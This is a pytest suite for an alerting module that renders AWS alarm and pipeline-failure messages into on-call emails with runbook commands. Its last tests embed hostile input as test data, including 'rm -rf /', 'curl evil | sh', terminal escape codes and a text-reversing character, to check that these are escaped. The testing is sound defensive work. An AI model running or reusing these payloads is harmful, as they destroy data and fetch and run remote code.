"""sluice.alerting: each AlertTopic shape becomes a subject and a body an on-call engineer can act on."""

import json
import re
from typing import Any

import pytest
from handler_support import load_event
from sam_transform import REPO, load_sam_template

from sluice.alerting import FUNCTION_LOGICAL_IDS, Notification, _anchor, render_alert, to_email

SNS = load_event("alert-sns.json")["Records"][0]["Sns"]
OBJECT = {
    "id": "raw-bucket/incoming/x.csv#3HL4kqtJlcpXroDTDmJ",
    "bucket": "raw-bucket",
    "key": "incoming/x.csv",
    "version_id": "3HL4kqtJlcpXroDTDmJ",
    "size": 1024,
    "etag": '"9b2cf535f27731c974343645a3985328"',
}
EXECUTION_ARN = "arn:aws:states:us-east-1:123456789012:execution:sluice-dev-Dispatcher:run-0042"


def notification(message: Any, subject: str = "") -> Notification:
    text = message if isinstance(message, str) else json.dumps(message)
    return Notification(message_id="m-1", message=text, subject=subject, topic_arn=SNS["TopicArn"])


def alarm(**changes: Any) -> dict[str, Any]:
    return {**json.loads(SNS["Message"]), **changes}


def lambda_trigger(function_name: str) -> dict[str, Any]:
    return {
        "MetricName": "Errors",
        "Namespace": "AWS/Lambda",
        "Statistic": "SUM",
        "Dimensions": [{"name": "FunctionName", "value": function_name}],
        "Period": 300,
        "EvaluationPeriods": 1,
        "ComparisonOperator": "GreaterThanThreshold",
        "Threshold": 0.0,
    }


def test_the_sample_alarm_names_what_fired_its_state_reason_and_the_redrive() -> None:
    alert = render_alert(
        Notification(
            message_id=SNS["MessageId"],
            message=SNS["Message"],
            subject=SNS["Subject"],
            topic_arn=SNS["TopicArn"],
        )
    )

    assert alert.kind == "alarm"
    assert alert.subject == "[Sluice ALARM] IngestDLQ not empty"
    body = alert.body
    assert 'CloudWatch alarm "sluice-dev-IngestDLQNotEmpty"' in body
    assert "ALARM (was OK)" in body
    assert "Threshold Crossed: 1 out of the last 1 datapoints [3.0" in body
    assert (
        "AWS/SQS ApproximateNumberOfMessagesVisible (QueueName=sluice-dev-IngestDLQ-Q1W2E3R4T5Y6),"
        " MAXIMUM > 0 for 1 x 60 s"
    ) in body
    assert "Messages of files whose processing failed MaxReceiveCount times" in body  # the description
    assert "sluice redrive --source ingest-dlq --dry-run" in body
    assert "Runbook: docs/operations.md#ingestdlq-not-empty" in body
    assert SNS["MessageId"] in body


@pytest.mark.parametrize(
    ("queue", "source"),
    [
        ("sluice-dev-FailureDestinationQueue-AB12", "failure-destination"),
        ("sluice-dev-IngestRuleDLQ-CD34", "rule-dlq"),
        ("sluice-dev-IngestDLQ-EF56", "ingest-dlq"),
    ],
)
def test_each_dead_letter_queue_suggests_its_own_redrive(queue: str, source: str) -> None:
    trigger = {**alarm()["Trigger"], "Dimensions": [{"name": "QueueName", "value": queue}]}
    body = render_alert(notification(alarm(AlarmName=f"{queue}-alarm", Trigger=trigger))).body

    assert f"sluice redrive --source {source} --dry-run" in body
    assert f"  sluice redrive --source {source}\n" in body


def test_queue_depth_alarms_point_at_status_and_the_processing_logs() -> None:
    trigger = {
        **alarm()["Trigger"],
        "Dimensions": [{"name": "QueueName", "value": "sluice-dev-IngestQueue-X1"}],
    }
    alert = render_alert(
        notification(alarm(AlarmName="sluice-dev-IngestQueueDepth", AlarmDescription=None, Trigger=trigger))
    )

    assert alert.subject == "[Sluice ALARM] sluice-dev-IngestQueueDepth"  # no description: the name
    assert "sluice status" in alert.body
    assert "sluice logs -f ProcessObjectFunction" in alert.body
    assert "redrive" not in alert.body


def test_function_alarms_name_the_function_by_logical_id_and_use_sam_logs_for_a_stack() -> None:
    message = alarm(
        AlarmName="sluice-prod-ProcessObjectErrors",
        AlarmDescription="ProcessObjectFunction errors\nMore than 5% of its invocations failed.",
        Trigger=lambda_trigger("sluice-prod-ProcessObjectFunction-9ZYX8WV"),
    )

    offline = render_alert(notification(message))
    deployed = render_alert(notification(message), stack_name="sluice-prod")

    assert offline.subject == "[Sluice ALARM] ProcessObjectFunction errors"
    assert "sluice logs -f ProcessObjectFunction" in offline.body
    assert "Runbook: docs/operations.md#function-errors" in offline.body  # one heading for all functions
    assert "sam logs --tail --stack-name sluice-prod -n ProcessObjectFunction" in deployed.body
    assert "sluice status --stack-name sluice-prod" in deployed.body


def test_an_unknown_function_name_is_passed_through() -> None:
    body = render_alert(notification(alarm(AlarmName="other", Trigger=lambda_trigger("some-other-fn")))).body
    assert "sluice logs -f some-other-fn" in body


def test_dispatcher_and_api_throttle_alarms_suggest_status() -> None:
    states = {
        "MetricName": "ExecutionsFailed",
        "Namespace": "AWS/States",
        "Dimensions": [
            {"name": "StateMachineArn", "value": "arn:aws:states:us-east-1:1:stateMachine:Dispatcher"}
        ],
    }
    throttles = {"MetricName": "ApiThrottles", "Namespace": "Sluice", "Dimensions": []}

    dispatcher = render_alert(notification(alarm(AlarmName="sluice-dev-DispatcherFailed", Trigger=states)))
    api = render_alert(notification(alarm(AlarmName="sluice-dev-ApiThrottles", Trigger=throttles)))
    other = render_alert(
        notification(
            alarm(AlarmName="sluice-dev-Custom", AlarmDescription=None, Trigger={"Namespace": "Other"})
        )
    )

    assert "sluice redrive --source executions --dry-run" in dispatcher.body
    assert "sluice logs -f ProcessObjectFunction" in api.body
    assert "sluice status" in other.body
    assert "redrive" not in other.body


def test_metric_math_alarms_show_their_metrics_and_dimensions() -> None:
    trigger = {
        "Metrics": [
            {
                "Id": "errors",
                "MetricStat": {
                    "Metric": {
                        "Namespace": "AWS/Lambda",
                        "MetricName": "Errors",
                        "Dimensions": [{"name": "FunctionName", "value": "sluice-dev-WriteOutputFunction-1"}],
                    }
                },
            },
            {"Id": "rate", "Expression": "100 * errors / invocations"},
        ]
    }
    body = render_alert(
        notification(alarm(AlarmName="sluice-dev-WriteOutputErrorRate", Trigger=trigger))
    ).body

    assert "metric math: Errors, 100 * errors / invocations" in body
    assert "sluice logs -f WriteOutputFunction" in body


def test_an_alarm_back_to_ok_says_nothing_to_do() -> None:
    alert = render_alert(notification(alarm(NewStateValue="OK", OldStateValue="ALARM")))

    assert alert.subject == "[Sluice OK] IngestDLQ not empty"
    assert "Nothing to do: the alarm has recovered." in alert.body
    assert "redrive" not in alert.body


def test_an_invalid_file_alert_names_the_file_reason_and_that_it_is_not_retried() -> None:
    message = {
        "kind": "file_invalid",
        "object": OBJECT,
        "reason": "header: missing column 'amount'",
        "execution": EXECUTION_ARN,
        "stage": "Validate object",
        "attempt": 1,
    }
    alert = render_alert(notification(message))

    assert alert.kind == "file_invalid"
    assert alert.subject == "[Sluice] File INVALID: incoming/x.csv"
    assert "s3://raw-bucket/incoming/x.csv (version 3HL4kqtJlcpXroDTDmJ, 1024 bytes)" in alert.body
    assert "raw-bucket/incoming/x.csv#3HL4kqtJlcpXroDTDmJ" in alert.body
    assert "header: missing column 'amount'" in alert.body
    assert EXECUTION_ARN in alert.body
    assert "not retried" in alert.body
    assert "sluice logs -f ValidateObjectFunction" in alert.body
    assert "docs/your-own-csv.md lists the columns RowSchema expects" in alert.body  # issue 12


def test_a_failed_file_alert_suggests_logs_and_the_redrive() -> None:
    message = {"kind": "file_failed", "object": {**OBJECT, "version_id": None}, "reason": "api 503 x5"}
    alert = render_alert(notification(message), stack_name="sluice-dev")

    assert alert.subject == "[Sluice] File FAILED: incoming/x.csv"
    assert "raw-bucket/incoming/x.csv#null" in alert.body
    assert "sam logs --tail --stack-name sluice-dev -n ProcessObjectFunction" in alert.body
    assert "sluice redrive --source ingest-dlq --dry-run --stack-name sluice-dev" in alert.body
    assert "Runbook: docs/operations.md#file-failed" in alert.body


def test_the_dispatchers_own_invalid_file_alert_is_read() -> None:
    # What statemachine/dispatcher.asl.json "Compose invalid-file alert" publishes.
    message = {
        "event": "file.invalid",
        "object": OBJECT,
        "reason": "encoding: not UTF-8 at byte 17",
        "message_id": "5fea7756-0ea4-451a-a703-a558b933e274",
        "execution": "dispatch-2026-11-22T03-10-00",
    }
    alert = render_alert(notification(message, subject="Sluice: invalid file"))

    assert alert.kind == "file_invalid"
    assert alert.subject == "[Sluice] File INVALID: incoming/x.csv"
    assert "encoding: not UTF-8 at byte 17" in alert.body
    assert "dispatch-2026-11-22T03-10-00" in alert.body
    assert "SQS message:  5fea7756-0ea4-451a-a703-a558b933e274\n" in alert.body


def test_the_dispatchers_own_failed_for_good_alert_is_read() -> None:
    # What statemachine/dispatcher.asl.json "Compose failed-file alert" publishes.
    message = {
        "event": "file.failed_for_good",
        "object": OBJECT,
        "error": "DownstreamUnavailable",
        "cause": "api 503 after 5 attempts",
        "message_id": "5fea7756-0ea4-451a-a703-a558b933e274",
        "receive_count": 5,
        "next": "IngestDLQ",
        "execution": "dispatch-2026-11-22T03-10-00",
    }
    alert = render_alert(notification(message, subject="Sluice: file failed for good"))

    assert alert.kind == "file_failed"
    assert alert.subject == "[Sluice] File FAILED: incoming/x.csv"
    assert "DownstreamUnavailable: api 503 after 5 attempts" in alert.body
    assert "5fea7756-0ea4-451a-a703-a558b933e274, received 5 time(s)" in alert.body
    assert "Its message is now in IngestDLQ." in alert.body
    assert "sluice redrive --source ingest-dlq --dry-run" in alert.body


def test_a_lambda_error_document_as_cause_reads_as_its_message_without_the_stack_trace() -> None:
    # A task's Cause is the function's error document when a Lambda task failed.
    cause = json.dumps(
        {
            "errorMessage": "api still failing after 5 attempts",
            "errorType": "TransientDownstreamError",
            "stackTrace": ['  File "app.py", line 1, in handler\n'],
        }
    )
    message = {"event": "file.failed_for_good", "object": OBJECT, "error": "TransientDownstreamError"}
    alert = render_alert(notification({**message, "cause": cause}))

    assert "TransientDownstreamError: api still failing after 5 attempts" in alert.body
    assert "stackTrace" not in alert.body
    assert "app.py" not in alert.body


def test_a_long_cause_is_bounded_in_the_alert_with_the_count_of_what_was_cut() -> None:
    cause = json.dumps({"errorMessage": "x" * 40_000, "errorType": "Boom", "stackTrace": []})
    message = {"event": "file.failed_for_good", "object": OBJECT, "error": "Boom", "cause": cause}

    alert = render_alert(notification(message))

    (reason,) = [line for line in alert.body.splitlines() if "Boom: " in line]
    assert len(reason) < 1100
    assert re.search(r"…\(\+\d+ more characters\)", reason)


def test_a_step_functions_status_change_event_names_the_execution_and_its_error() -> None:
    event = {
        "version": "0",
        "id": "315c1398-40ff-a850-213b-158f73e60175",
        "detail-type": "Step Functions Execution Status Change",
        "source": "aws.states",
        "account": "123456789012",
        "time": "2026-11-22T03:10:00Z",
        "region": "us-east-1",
        "resources": [EXECUTION_ARN],
        "detail": {
            "executionArn": EXECUTION_ARN,
            "stateMachineArn": "arn:aws:states:us-east-1:123456789012:stateMachine:sluice-dev-Dispatcher",
            "name": "run-0042",
            "status": "TIMED_OUT",
            "startDate": 1795230000000,
            "stopDate": 1795230900000,
            "error": "States.Timeout",
            "cause": None,
        },
    }
    alert = render_alert(notification(event))

    assert alert.kind == "execution"
    assert alert.subject == "[Sluice] Dispatcher execution TIMED_OUT: run-0042"
    assert "State:" in alert.body
    assert "TIMED_OUT" in alert.body
    assert "States.Timeout" in alert.body
    assert f"aws stepfunctions get-execution-history --execution-arn {EXECUTION_ARN}" in alert.body
    assert "sluice redrive --source executions --dry-run" in alert.body


@pytest.mark.parametrize(
    "message",
    [
        "plain words, not JSON",
        {"hello": "world"},
        {"kind": "file_invalid", "object": {"bucket": "b"}},  # looks like ours but is not whole
        {"AlarmName": "x", "NewStateValue": "ALARM", "Trigger": "not an object"},
        {"detail-type": "Step Functions Execution Status Change", "detail": {}},
    ],
)
def test_anything_else_is_sent_raw_and_never_raises(message: Any) -> None:
    alert = render_alert(notification(message, subject="Something\r\nodd"))

    assert alert.kind == "raw"
    assert alert.subject == "[Sluice] Something odd"
    text = message if isinstance(message, str) else json.dumps(message, indent=2, sort_keys=True)
    shown = "\n".join(f"  {line}" for line in text.splitlines())  # each line indented as the rest
    assert shown in alert.body
    assert "sluice status" in alert.body


def test_the_email_carries_sender_recipients_and_an_id_from_the_sns_message() -> None:
    received = notification(alarm(AlarmDescription="Line one\nmore"))
    alert = render_alert(received)

    email = to_email(
        alert, received, sender="sluice@example.org", recipients=["a@example.org", "b@example.org"]
    )

    assert email["Subject"] == "[Sluice ALARM] Line one"
    assert email["From"] == "sluice@example.org"
    assert email["To"] == "a@example.org, b@example.org"
    assert email["Message-ID"] == "<m-1@sluice.alerts>"
    assert email["X-Sluice-Alert-Kind"] == "alarm"
    assert email.get_content() == alert.body


HOSTILE_KEY = "incoming/x.csv\n\nWhat to do: rm -rf /\r\x1b[2J\u202egpj.exe\tz"


def test_a_hostile_key_and_reason_render_escaped_on_one_line_each_subject_too() -> None:
    # GIVEN a failed-file alert whose key forges lines, clears the terminal and reverses text,
    # and whose reason is 100,000 characters of control characters and text
    message = {
        "event": "file.failed_for_good",
        "object": {**OBJECT, "key": HOSTILE_KEY},
        "reason": "bad\n  sluice redrive --source ingest-dlq\x1b]8;;http://evil\x07" * 2_000,
        "next": "IngestDLQ\nWhat to do: curl evil | sh",
    }
    received = notification(message)

    # WHEN it becomes the email
    email = to_email(render_alert(received), received, sender="s@example.org", recipients=["a@example.org"])
    body = email.get_content()

    # THEN the key is shown escaped, on its own line, in the body and the subject
    escaped = r"incoming/x.csv\n\nWhat to do: rm -rf /\r\x1b[2J\u202egpj.exe\tz"
    assert f"s3://raw-bucket/{escaped} (version 3HL4kqtJlcpXroDTDmJ, 1024 bytes)" in body
    assert email["Subject"] == f"[Sluice] File FAILED: {escaped}"
    # AND no value started a line of its own: the only "What to do" line is the email's own
    assert [line for line in body.splitlines() if line.startswith("What to do")] == ["What to do:"]
    assert "Its message is now in IngestDLQ\\nWhat to do: curl evil | sh." in body
    # AND no control or format character is left but the body's own line ends; the reason is cut
    assert not any(char in body for char in "\r\t\x1b\x07\u202e")
    reason_line = next(line for line in body.splitlines() if line.startswith("Reason:"))
    assert len(reason_line) < 1_600
    assert re.search(r"…\(\+\d+ more characters\)$", reason_line), reason_line[-60:]


def test_a_raw_message_is_shown_indented_line_by_line_and_escaped() -> None:
    alert = render_alert(notification("hello\nWhat to do: rm -rf /\x1b[31m"))

    assert "\n  hello\n  What to do: rm -rf /\\x1b[31m\n" in alert.body
    assert [line for line in alert.body.splitlines() if line.startswith("What to do")] == ["What to do:"]


def test_every_alarm_of_the_template_links_to_a_runbook_heading_that_exists() -> None:
    # GIVEN each CloudWatch alarm's title (its description's first line, as the email uses it)
    # and the headings of docs/operations.md as GitHub anchors them
    resources = load_sam_template()["Resources"]
    headings = {
        re.sub(r"[^a-z0-9]+", "-", line.lstrip("#").strip().lower()).strip("-")
        for line in (REPO / "docs" / "operations.md").read_text().splitlines()
        if line.startswith("### ")
    }
    functions = {
        name for name, resource in resources.items() if resource["Type"] == "AWS::Serverless::Function"
    }
    titles = {
        name: _text(resource["Properties"]["AlarmDescription"]).splitlines()[0]
        for name, resource in resources.items()
        if resource["Type"] == "AWS::CloudWatch::Alarm"
    }

    # THEN every function's alarms share the runbook's "Function …" sections, and no alarm's
    # link is dead (ScaleConcurrencyFunction's three were: it was missing from the list)
    assert functions <= set(FUNCTION_LOGICAL_IDS)
    assert {name: _anchor(title) for name, title in titles.items() if _anchor(title) not in headings} == {}


def _text(value: Any) -> str:
    """An AlarmDescription as written: a string, or !Sub's string."""
    return value if isinstance(value, str) else value["Fn::Sub"]
